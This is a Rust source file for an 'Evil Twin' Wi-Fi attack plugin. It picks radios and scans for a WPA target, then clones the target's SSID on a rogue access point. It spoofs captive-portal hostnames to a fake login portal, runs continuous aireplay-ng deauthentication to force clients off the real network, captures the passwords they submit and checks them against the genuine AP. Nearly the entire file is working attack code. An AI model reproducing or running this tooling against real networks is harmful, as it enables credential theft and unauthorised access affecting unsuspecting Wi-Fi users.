//! The Evil Twin credential-capture workflow.
//!
//! Six phases: role assignment, target scan, infrastructure bring-up, lure,
//! verification, teardown. Teardown runs in LIFO order on every exit path
//! and never raises; its net effect on nmcli, iptables, IP forwarding and
//! the helper processes is zero relative to the pre-run state, modulo the
//! captured credentials file.

use crate::{
    config::Config,
    error::Error,
    exec::{argv, DefaultExec, Exec, ExecOpts},
    iface::InterfaceController,
    infra::{
        ap::ApManagerBuilder,
        dhcp::{DhcpDnsManagerBuilder, DhcpSettingsBuilder},
        portal::WebPortalBuilder,
        ApManager, DhcpDnsManager, TrafficRedirector, WebPortal,
    },
    plugin::Plugin,
    scan::{AccessPoint, NetworkScanner},
    state::{context::keys, AppState, RunContext},
    supervise::Helper,
    verify::CredentialVerifier,
};
use anyhow::{Context, Result};
use async_trait::async_trait;
use ipnetwork::Ipv4Network;
use log::{debug, info, warn};
use std::{collections::BTreeMap, net::IpAddr, time::Duration};

/// Hostnames spoofed onto the rogue gateway so captive-portal probes land on
/// the login page.
pub const CAPTIVE_PORTAL_HOSTS: &[&str] = &[
    "captive.apple.com",
    "captiveportal.apple.com",
    "clients1.google.com",
    "connectivitycheck.gstatic.com",
    "connectivitycheck.platform.hicloud.com",
    "detectportal.firefox.com",
    "www.apple.com",
    "www.google.com",
    "www.msftconnecttest.com",
    "www.msftncsi.com",
];

/// Grace period for the continuous deauth helper.
const DEAUTH_STOP_GRACE: Duration = Duration::from_secs(5);

/// Plugin entry point wrapping the workflow.
pub struct EvilTwinPlugin {
    config: Config,
}

impl EvilTwinPlugin {
    pub fn new(config: Config) -> Self {
        Self { config }
    }
}

#[async_trait]
impl Plugin for EvilTwinPlugin {
    fn name(&self) -> &str {
        "evil_twin"
    }

    async fn run(&self, ctx: &RunContext, _args: &[String]) -> Result<bool> {
        EvilTwin::new(&self.config)?.run(ctx).await
    }
}

#[derive(Clone, Debug, Eq, PartialEq)]
/// Radio/uplink assignment for one run.
pub struct Roles {
    pub ap: String,
    pub deauth: String,
    pub verify: Option<String>,
    pub internet: Option<String>,
}

#[derive(Clone, Debug)]
struct Target {
    bssid: String,
    ssid: String,
    channel: String,
}

/// The composed workflow state machine.
pub struct EvilTwin {
    exec: Box<dyn Exec>,
    controller: InterfaceController,
    scanner: NetworkScanner,
    ap: ApManager,
    dhcp: DhcpDnsManager,
    redirector: TrafficRedirector,
    portal: WebPortal,
    verifier: CredentialVerifier,
    gateway: Ipv4Network,
    roles: Option<Roles>,
    monitor_iface: Option<String>,
    deauth_helper: Option<Helper>,
    target: Option<Target>,
}

impl EvilTwin {
    pub fn new(config: &Config) -> Result<Self> {
        let gateway: Ipv4Network = config
            .gateway_cidr()
            .parse()
            .with_context(|| format!("parse gateway CIDR {}", config.gateway_cidr()))?;
        Ok(Self {
            exec: Box::new(DefaultExec),
            controller: InterfaceController::default(),
            scanner: NetworkScanner::default(),
            ap: ApManagerBuilder::default()
                .config_dir(config.work_dir().clone())
                .build()
                .context("build AP manager")?,
            dhcp: DhcpDnsManagerBuilder::default()
                .config_dir(config.work_dir().clone())
                .build()
                .context("build DHCP manager")?,
            redirector: TrafficRedirector::default(),
            portal: WebPortalBuilder::default()
                .template_dir(config.template_dir().clone())
                .credentials_path(config.credentials_path())
                .build()
                .context("build portal")?,
            verifier: CredentialVerifier::default(),
            gateway,
            roles: None,
            monitor_iface: None,
            deauth_helper: None,
            target: None,
        })
    }

    /// Run the full state machine. Teardown executes on success, failure and
    /// interrupt alike; the first failure is surfaced after teardown.
    pub async fn run(&mut self, ctx: &RunContext) -> Result<bool> {
        info!("Starting Evil Twin orchestration");
        let outcome = self.execute(ctx).await;
        self.teardown(ctx).await;
        match &outcome {
            Ok(true) => info!("Evil Twin attack completed successfully"),
            Ok(false) => warn!("Evil Twin attack finished without success"),
            Err(e) => warn!("Evil Twin attack aborted: {:#}", e),
        }
        outcome
    }

    async fn execute(&mut self, ctx: &RunContext) -> Result<bool> {
        self.select_roles(ctx).await?;
        self.scan_target(ctx).await?;
        self.raise_infrastructure(ctx).await?;
        let captured = self.lure(ctx).await;
        Ok(self.verify_captured(ctx, captured).await)
    }

    /// S0: resolve the role assignment and put the gateway address on the AP
    /// interface. The store is untouched until the assignment holds.
    async fn select_roles(&mut self, ctx: &RunContext) -> Result<()> {
        let state = ctx.state();
        let roles = resolve_roles(state, ctx)?;
        info!(
            "Role assignment: AP={}, deauth={}, verify={:?}, internet={:?}",
            roles.ap, roles.deauth, roles.verify, roles.internet
        );
        ctx.set(keys::AP_IFACE, roles.ap.as_str());
        ctx.set(keys::DEAUTH_IFACE, roles.deauth.as_str());
        if let Some(verify) = &roles.verify {
            ctx.set(keys::VERIFY_IFACE, verify.as_str());
        }
        if let Some(internet) = &roles.internet {
            ctx.set(keys::INTERNET_IFACE, internet.as_str());
        }

        // Remembered so teardown can hand the AP interface back.
        let nm_managed = self.controller.nm_managed(&roles.ap).await;
        ctx.set(keys::AP_NM_MANAGED, nm_managed);

        let cidr = self.gateway.to_string();
        info!("Assigning {} to {}", cidr, roles.ap);
        self.exec
            .run_unchecked(
                &argv(["ip", "link", "set", &roles.ap, "down"]),
                &ExecOpts::root_unchecked(),
            )
            .await;
        self.exec
            .run_unchecked(
                &argv(["ip", "addr", "flush", "dev", &roles.ap]),
                &ExecOpts::root_unchecked(),
            )
            .await;
        self.exec
            .run(
                &argv(["ip", "addr", "add", &cidr, "dev", &roles.ap]),
                &ExecOpts::root(),
            )
            .await
            .context("assign gateway address")?;
        self.exec
            .run(&argv(["ip", "link", "set", &roles.ap, "up"]), &ExecOpts::root())
            .await
            .context("raise AP interface")?;

        if let Some(mut iface) = state.interface(&roles.ap) {
            iface.set_ip_address(Some(cidr));
            iface.set_is_up(true);
            state.update_interfaces(std::collections::HashMap::from([(
                roles.ap.clone(),
                iface,
            )]));
        }

        self.roles = Some(roles);
        Ok(())
    }

    /// S1: put the deauth radio into monitor mode and pick the target.
    async fn scan_target(&mut self, ctx: &RunContext) -> Result<()> {
        let roles = self.roles.clone().context("roles resolved")?;
        let state = ctx.state();

        let target = if roles.deauth != roles.ap {
            let (monitor, we_disabled_nm) = self
                .controller
                .enable_monitor_mode(state, &roles.deauth)
                .await?;
            ctx.set(keys::DEAUTH_NM_UNMANAGED, we_disabled_nm);
            self.monitor_iface = Some(monitor.clone());

            let duration = Duration::from_secs(ctx.get_u64(keys::SCAN_DURATION).unwrap_or(15));
            let filter = ctx
                .get_str(keys::SECURITY_FILTER)
                .unwrap_or_else(|| "WPA".to_string());
            let networks = self.scanner.scan(&monitor, duration, &filter).await?;
            let chosen = choose_target(&networks, ctx)?;
            Target {
                bssid: chosen.bssid().clone(),
                ssid: chosen.essid_raw().clone(),
                channel: chosen.channel().clone(),
            }
        } else {
            // A shared radio cannot scan while it hosts the AP; the target
            // must come in full from the caller.
            match (
                ctx.get_str(keys::TARGET_BSSID),
                ctx.get_str(keys::TARGET_SSID),
                ctx.get_u64(keys::TARGET_CHANNEL),
            ) {
                (Some(bssid), Some(ssid), Some(channel)) => Target {
                    bssid,
                    ssid,
                    channel: channel.to_string(),
                },
                _ => {
                    return Err(Error::TargetSelectionFailed(
                        "single-radio operation needs --target-bssid, --target-ssid and \
                         --target-channel"
                            .into(),
                    )
                    .into())
                }
            }
        };

        info!(
            "Target AP: '{}' ({}) on channel {}",
            target.ssid, target.bssid, target.channel
        );
        ctx.set(keys::TARGET_BSSID, target.bssid.as_str());
        ctx.set(keys::TARGET_SSID, target.ssid.as_str());
        ctx.set(keys::TARGET_CHANNEL, target.channel.as_str());
        self.target = Some(target);
        Ok(())
    }

    /// S2: AP, DHCP/DNS, forwarding, redirection, portal — in that order.
    async fn raise_infrastructure(&mut self, ctx: &RunContext) -> Result<()> {
        let roles = self.roles.clone().context("roles resolved")?;
        let target = self.target.clone().context("target selected")?;
        let state = ctx.state();

        let channel: u32 = target
            .channel
            .trim()
            .parse()
            .with_context(|| format!("parse target channel '{}'", target.channel))?;
        self.ap
            .start_ap(state, &roles.ap, &target.ssid, channel, None)
            .await?;

        let gateway_ip = self.gateway.ip().to_string();
        let (range_start, range_end) = dhcp_range(&self.gateway);
        let dns_entries: BTreeMap<String, String> = CAPTIVE_PORTAL_HOSTS
            .iter()
            .map(|host| (host.to_string(), gateway_ip.clone()))
            .collect();
        let settings = DhcpSettingsBuilder::default()
            .range_start(range_start)
            .range_end(range_end)
            .gateway_ip(gateway_ip.clone())
            .dns_entries(dns_entries)
            .build()
            .context("build DHCP settings")?;
        self.dhcp.start(&roles.ap, &settings).await?;

        self.redirector
            .enable_ip_forwarding()
            .await
            .map_err(|e| Error::InfraStartupFailed(crate::error::chain(e)))?;
        let internet = roles.internet.as_deref().unwrap_or(&roles.ap);
        if roles.internet.is_none() {
            warn!("No uplink interface; NAT masquerades out of the AP interface");
        }
        self.redirector
            .setup_redirection_rules(&roles.ap, internet, &gateway_ip, 80)
            .await?;

        self.portal
            .start(state.clone(), IpAddr::V4(self.gateway.ip()), 80)
            .await
            .map_err(|e| Error::InfraStartupFailed(crate::error::chain(e)))?;

        info!("Rogue AP infrastructure is up");
        Ok(())
    }

    /// S3: deauthenticate stations off the real AP and block until a
    /// credential arrives, the timeout elapses, or ctrl-C.
    async fn lure(&mut self, ctx: &RunContext) -> bool {
        let lure_timeout = Duration::from_secs(ctx.get_u64(keys::LURE_TIMEOUT).unwrap_or(300));

        if let (Some(monitor), Some(target)) = (&self.monitor_iface, &self.target) {
            // Continuous deauth keeps stations bouncing onto the twin.
            match Helper::spawn(
                "aireplay-ng",
                &argv([
                    "aireplay-ng",
                    "--deauth",
                    "0",
                    "-a",
                    &target.bssid,
                    monitor,
                ]),
            ) {
                Ok(helper) => self.deauth_helper = Some(helper),
                Err(e) => warn!("Continuous deauth unavailable: {:#}", e),
            }
        } else {
            debug!("No separate monitor radio; skipping continuous deauth");
        }

        info!(
            "Luring clients for up to {:?}; waiting for credentials",
            lure_timeout
        );
        let captured = tokio::select! {
            captured = self.portal.wait_for_capture(lure_timeout) => captured,
            _ = tokio::signal::ctrl_c() => {
                info!("Lure interrupted");
                false
            }
        };

        if let Some(mut helper) = self.deauth_helper.take() {
            helper.stop(DEAUTH_STOP_GRACE).await;
        }

        if captured {
            info!("Credentials captured during lure");
            if let Some(credential) = self.portal.last_credential() {
                ctx.set(keys::CAPTURED_USERNAME, credential.username.as_str());
                ctx.set(keys::CRACKED_PASSWORD, credential.password.as_str());
            }
        } else {
            warn!("Lure finished without a credential submission");
        }
        captured
    }

    /// S4: try the captured password against the real AP.
    async fn verify_captured(&mut self, ctx: &RunContext, captured: bool) -> bool {
        if !captured {
            return false;
        }
        let verify_iface = match self.roles.as_ref().and_then(|r| r.verify.clone()) {
            Some(iface) => iface,
            None => {
                warn!("No verification interface; reporting the capture unverified");
                return true;
            }
        };
        let (Some(target), Some(credential)) = (&self.target, self.portal.last_credential())
        else {
            return true;
        };

        let timeout = Duration::from_secs(ctx.get_u64(keys::VERIFY_TIMEOUT).unwrap_or(10));
        let verified = self
            .verifier
            .verify(
                &verify_iface,
                &target.ssid,
                &credential.password,
                Some(&target.bssid),
                timeout,
            )
            .await
            .unwrap_or_else(|e| {
                warn!("Verification attempt failed: {:#}", e);
                false
            });
        ctx.set(keys::CREDENTIALS_VERIFIED, verified);
        if verified {
            info!("Captured password verified against the real AP");
        } else {
            warn!("Captured password failed verification");
        }
        verified
    }

    /// T: strict LIFO teardown; every step is best-effort and logged.
    async fn teardown(&mut self, ctx: &RunContext) {
        info!("Tearing down Evil Twin infrastructure");
        let state = ctx.state();

        if let Some(mut helper) = self.deauth_helper.take() {
            helper.stop(DEAUTH_STOP_GRACE).await;
        }
        self.portal.stop().await;
        self.dhcp.stop().await;
        self.redirector.clear_redirection_rules().await;
        self.ap.stop_ap().await;

        let Some(roles) = self.roles.take() else {
            info!("Teardown finished (nothing was set up)");
            return;
        };

        if let Some(monitor) = self.monitor_iface.take() {
            self.controller
                .restore_interface_state(
                    state,
                    &roles.deauth,
                    ctx.get_bool(keys::DEAUTH_NM_UNMANAGED),
                    &monitor,
                )
                .await;
        }

        // The AP interface loses the gateway address and goes back to
        // NetworkManager, hostile races notwithstanding.
        for cmd in [
            argv(["ip", "addr", "flush", "dev", &roles.ap]),
            argv(["ip", "link", "set", &roles.ap, "down"]),
            argv(["ip", "link", "set", &roles.ap, "up"]),
            argv(["nmcli", "dev", "set", &roles.ap, "managed", "yes"]),
            // Best-effort reconnect to whatever profile NM prefers.
            argv(["nmcli", "dev", "connect", &roles.ap]),
        ] {
            self.exec.run_unchecked(&cmd, &ExecOpts::root_unchecked()).await;
        }

        if let Some(mut iface) = state.interface(&roles.ap) {
            iface.set_ip_address(None);
            iface.set_mode(crate::schema::Mode::Managed);
            state.update_interfaces(std::collections::HashMap::from([(
                roles.ap.clone(),
                iface,
            )]));
        }

        info!("Teardown finished");
    }
}

/// DHCP pool bounds inside the gateway's /24-style network.
fn dhcp_range(gateway: &Ipv4Network) -> (String, String) {
    let base = gateway.network().octets();
    (
        format!("{}.{}.{}.10", base[0], base[1], base[2]),
        format!("{}.{}.{}.250", base[0], base[1], base[2]),
    )
}

/// Resolve the AP/deauth/verify/internet roles from the discovery graph.
/// Explicit requests win; auto-selection walks the capability-filtered,
/// name-sorted candidates preferring exclusive assignments.
pub fn resolve_roles(state: &AppState, ctx: &RunContext) -> Result<Roles> {
    let auto = ctx.get_bool(keys::AUTO_SELECT);
    let wireless = state.interfaces_filtered(true, false, true);
    if wireless.is_empty() {
        return Err(
            Error::RoleAssignmentFailed("no active wireless interfaces found".into()).into(),
        );
    }

    let requested = |key: &str| ctx.get_str(key);
    let pick = |capability: fn(&crate::schema::Interface) -> bool,
                requested_name: Option<String>,
                excluded: &[&String]|
     -> Option<String> {
        if let Some(name) = requested_name {
            match wireless.iter().find(|i| *i.name() == name) {
                Some(iface) if capability(iface) => return Some(name),
                Some(_) => warn!("Requested interface {} lacks the capability", name),
                None => warn!("Requested interface {} is not an active radio", name),
            }
        }
        if !auto {
            return None;
        }
        wireless
            .iter()
            .filter(|i| capability(i))
            .find(|i| !excluded.contains(&i.name()))
            .map(|i| i.name().clone())
    };

    let ap = pick(
        |i| i.capabilities().ap(),
        requested(keys::AP_IFACE),
        &[],
    )
    .ok_or_else(|| Error::RoleAssignmentFailed("no AP-capable interface available".into()))?;

    let deauth = match pick(
        |i| i.capabilities().monitor(),
        requested(keys::DEAUTH_IFACE),
        &[&ap],
    ) {
        Some(deauth) => deauth,
        None => {
            let ap_iface = wireless.iter().find(|i| *i.name() == ap);
            if ap_iface.map(|i| i.capabilities().monitor()).unwrap_or(false) {
                warn!("Re-using AP interface {} for deauth; less stable", ap);
                ap.clone()
            } else {
                return Err(Error::RoleAssignmentFailed(
                    "no monitor-capable interface available".into(),
                )
                .into());
            }
        }
    };

    let verify = pick(
        |i| i.capabilities().managed(),
        requested(keys::VERIFY_IFACE),
        &[&ap, &deauth],
    )
    .or_else(|| {
        // Exclusive beats shared, but a shared managed radio still allows
        // verification.
        let fallback = wireless
            .iter()
            .filter(|i| i.capabilities().managed())
            .map(|i| i.name().clone())
            .next();
        if let Some(name) = &fallback {
            warn!("No exclusive verification interface; re-using {}", name);
        }
        fallback
    });

    let internet = match requested(keys::INTERNET_IFACE) {
        Some(name) => {
            let ok = state
                .interface(&name)
                .map(|i| i.is_up() && i.ip_address().is_some())
                .unwrap_or(false);
            if ok {
                Some(name)
            } else {
                warn!("Requested uplink {} is down or unaddressed", name);
                None
            }
        }
        None => None,
    }
    .or_else(|| {
        state
            .interfaces_filtered(false, false, true)
            .into_iter()
            .find(|i| !i.is_wireless() && i.ip_address().is_some())
            .map(|i| i.name().clone())
    });

    Ok(Roles {
        ap,
        deauth,
        verify,
        internet,
    })
}

/// Pick the target network: an explicit triplet match first, then the
/// strongest network when auto-selecting or unambiguous.
pub fn choose_target(networks: &[AccessPoint], ctx: &RunContext) -> Result<AccessPoint> {
    if networks.is_empty() {
        return Err(Error::TargetSelectionFailed("scan produced no networks".into()).into());
    }

    let want_bssid = ctx.get_str(keys::TARGET_BSSID);
    let want_ssid = ctx.get_str(keys::TARGET_SSID);
    let want_channel = ctx.get_u64(keys::TARGET_CHANNEL);

    if want_bssid.is_some() || want_ssid.is_some() {
        let found = networks.iter().find(|n| {
            let bssid_match = want_bssid
                .as_deref()
                .map(|b| n.bssid().eq_ignore_ascii_case(b))
                .unwrap_or(true);
            let ssid_match = want_ssid
                .as_deref()
                .map(|s| n.essid_raw().eq_ignore_ascii_case(s))
                .unwrap_or(true);
            let channel_match = want_channel
                .map(|c| n.channel().trim().parse::<u64>().ok() == Some(c))
                .unwrap_or(true);
            bssid_match && ssid_match && channel_match
        });
        match found {
            Some(network) => return Ok(network.clone()),
            None => warn!("Requested target not present in scan results, auto-selecting"),
        }
    }

    if ctx.get_bool(keys::AUTO_SELECT) || networks.len() == 1 {
        let strongest = networks[0].clone();
        info!(
            "Auto-selected target '{}' ({})",
            strongest.essid(),
            strongest.bssid()
        );
        return Ok(strongest);
    }

    Err(Error::TargetSelectionFailed(
        "multiple candidates; pass a target triplet or enable auto-select".into(),
    )
    .into())
}
